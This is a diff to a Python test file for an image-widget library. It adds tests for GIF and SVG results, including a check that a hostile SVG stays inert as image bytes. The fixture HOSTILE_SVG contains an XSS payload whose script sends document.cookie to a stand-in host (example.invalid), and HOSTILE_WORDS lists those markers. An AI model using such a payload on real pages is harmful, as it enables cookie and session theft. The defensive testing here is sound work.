@@ -3,17 +3,22 @@
 from __future__ import annotations
 
 import asyncio
+import base64
 import gc
 import io
+import json
 import threading
 import time
 from collections.abc import AsyncIterator, Iterator
 from typing import Any
 
+import httpx
+import ipywidgets as widgets
 import pytest
 from PIL import Image
 
 import imagewidgets as iw
+from imagewidgets.imaging import Thumbnail
 from imagewidgets.results import GeneratedImage, PartialImage
 from imagewidgets.ui import tile as tile_module
 from imagewidgets.ui.panel import ImagePanel
@@ -66,7 +71,7 @@ class _Stream:
 
 def test_tile_repr_is_cheap() -> None:
     tile = ImageTile(iw.ImageParams(prompt="x"))
-    assert repr(tile) == "ImageTile(status='queued', model='gpt-image-1.5')"
+    assert repr(tile) == f"ImageTile(status='queued', model={iw.ImageParams().model!r})"
     tile.close()
 
 
@@ -192,7 +197,7 @@ async def test_decoding_runs_off_the_loop_and_the_loop_stays_responsive(
     threads: list[threading.Thread] = []
     real = tile_module.thumbnail
 
-    def recording(data: bytes, longest: int = 384) -> bytes:
+    def recording(data: bytes, longest: int = 384) -> Thumbnail:
         threads.append(threading.current_thread())
         return real(data, longest)
 
@@ -216,3 +221,127 @@ async def test_decoding_runs_off_the_loop_and_the_loop_stays_responsive(
     print(f"\nlargest event-loop lag during a 4-image streaming generation: "
           f"{max(lags) * 1000:.1f} ms over {len(lags)} probes")
     panel.close()
+
+
+# -- GIF and SVG results ------------------------------------------------------------------------
+
+def _gif(frames: int = 5, size: tuple[int, int] = (512, 512)) -> bytes:
+    pictures = [Image.new("RGB", size, (50 * index, 100, 200)) for index in range(frames)]
+    buffer = io.BytesIO()
+    pictures[0].save(buffer, "GIF", save_all=True, append_images=pictures[1:], duration=120, loop=0)
+    return buffer.getvalue()
+
+
+HOSTILE_SVG = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
+               b'<svg xmlns="http://www.w3.org/2000/svg" width="1024" height="1024" '
+               b'onload="alert(document.domain)">'
+               b'<script>fetch("http://example.invalid/steal?c=" + document.cookie)</script>'
+               b'<image href="http://example.invalid/x.png" width="64" height="64"/>'
+               b'<rect width="1024" height="1024" fill="teal"/></svg>\n')
+HOSTILE_WORDS = ("<script", "onload", "example.invalid", "document.cookie", "<svg")
+
+
+def _result(data: bytes, fmt: str, size: tuple[int, int]) -> GeneratedImage:
+    return GeneratedImage(data=data, format=fmt, width=size[0], height=size[1],
+                          params={"model": "gpt-image-2.6-sunburst", "prompt": "A spinning top"},
+                          created=int(time.time()))
+
+
+def _tree(widget: Any) -> list[Any]:
+    """Every widget a tile made: children, layouts, styles."""
+    found, pending = [], [widget]
+    while pending:
+        current = pending.pop()
+        if not isinstance(current, widgets.Widget) or any(current is seen for seen in found):
+            continue
+        found.append(current)
+        pending.extend(getattr(current, "children", ()) or ())
+        pending.extend(getattr(current, name, None) for name in ("layout", "style"))
+    return found
+
+
+def _delivered(button: Any) -> tuple[dict[str, Any], bytes]:
+    sent: list[tuple[dict[str, Any], list[bytes]]] = []
+    button.send = lambda content, buffers=None: sent.append((content, buffers))
+    assert button.deliver()
+    (content, buffers), = sent
+    (data,) = buffers
+    return content, bytes(data)
+
+
+async def test_a_gif_result_shows_animated_and_downloads_as_gif() -> None:
+    gif = _gif()
+    tile = ImageTile(iw.ImageParams(prompt="A spinning top"))
+    await tile.show(_result(gif, "gif", (512, 512)))
+    assert tile.status == "done" and tile.image.format == "gif"
+    state = tile.image.get_state()
+    assert state["format"] == "gif"
+    with Image.open(io.BytesIO(bytes(tile.image.value))) as thumb:
+        assert thumb.format == "GIF" and thumb.n_frames == 5 and max(thumb.size) == 384
+    for button in (tile.download, tile.enlarge):
+        content, data = _delivered(button)
+        assert data == gif  # exactly the server's bytes, every frame
+        assert content["filename"].endswith(".gif") and content["mime"] == "image/gif"
+    tile.close()
+
+
+async def test_a_hostile_svg_is_only_ever_image_bytes_in_the_tile() -> None:
+    tile = ImageTile(iw.ImageParams(prompt="A spinning top"))
+    await tile.show(_result(HOSTILE_SVG, "svg", (1024, 1024)))
+    assert tile.status == "done" and tile.image.format == "svg+xml"
+    # Every piece of state the tile sends to the browser: the SVG is nowhere as markup.
+    for widget in _tree(tile):
+        for name, value in widget.get_state().items():
+            text = value if isinstance(value, str) else bytes(value).decode("latin-1") \
+                if isinstance(value, (bytes, memoryview)) else json.dumps(value, default=str)
+            for word in HOSTILE_WORDS[:-1]:
+                assert word not in text, (type(widget).__name__, name, word)
+            if isinstance(widget, widgets.HTML):
+                assert "<svg" not in text and "data:" not in text
+    # The image widget holds it as image bytes of type svg+xml, wrapped: its own bytes are
+    # the payload of a data: URL there, drawn as an image.
+    shown = bytes(tile.image.value)
+    assert shown.startswith(b"<svg") and base64.b64encode(HOSTILE_SVG) in shown
+    for button in (tile.download, tile.enlarge):
+        content, data = _delivered(button)
+        assert data == HOSTILE_SVG
+        assert content["filename"].endswith(".svg") and content["mime"] == "image/svg+xml"
+        assert set(content) == {"event", "filename", "mime"}  # the bytes only as a buffer
+    tile.close()
+
+
+@pytest.mark.parametrize("kind", ["gif", "svg"])
+async def test_gif_and_svg_from_a_server_through_the_client_to_download(kind: str) -> None:
+    data = _gif(3, (256, 128)) if kind == "gif" else HOSTILE_SVG
+    seen: list[str] = []
+
+    def answer(request: httpx.Request) -> httpx.Response:
+        seen.append(request.url.path)
+        return httpx.Response(200, json={"created": 1_764_000_000, "output_format": kind,
+                                         "data": [{"b64_json": base64.b64encode(data).decode()}]})
+
+    params = iw.ImageParams(prompt="A spinning top")  # the default: a live model
+    async with httpx.AsyncClient(transport=httpx.MockTransport(answer)) as http, \
+            iw.ImagesClient(api_key="sk-test", base_url="http://api.test/v1", http_client=http,
+                            max_retries=0) as client:
+        tile = ImageTile(params)
+        await tile.run(client, params.to_request())
+    assert seen == ["/v1/images/generations"]
+    assert tile.status == "done", tile.caption.value
+    assert tile.result is not None and tile.result.format == kind and tile.result.data == data
+    assert tile.image.format == ("gif" if kind == "gif" else "svg+xml")
+    assert ("256x128" if kind == "gif" else "1024x1024") in tile.caption.value
+    content, delivered = _delivered(tile.download)
+    assert delivered == data and content["filename"].endswith(f".{kind}")
+    tile.close()
+
+
+async def test_a_partial_then_a_final_of_another_format_switch_the_image_type() -> None:
+    partial = PartialImage(data=_png(64, 64), format="png", width=64, height=64)
+    client = _Stream(partial, _result(_gif(2, (64, 64)), "gif", (64, 64)))
+    tile = ImageTile(iw.ImageParams(model="gpt-image-1", prompt="x", stream=True, partial_images=1))
+    formats: list[str] = []
+    tile.image.observe(lambda change: formats.append(change["new"]), "format")
+    await tile.run(client)  # type: ignore[arg-type]
+    assert tile.status == "done" and formats == ["gif"] and tile.image.format == "gif"
+    tile.close()
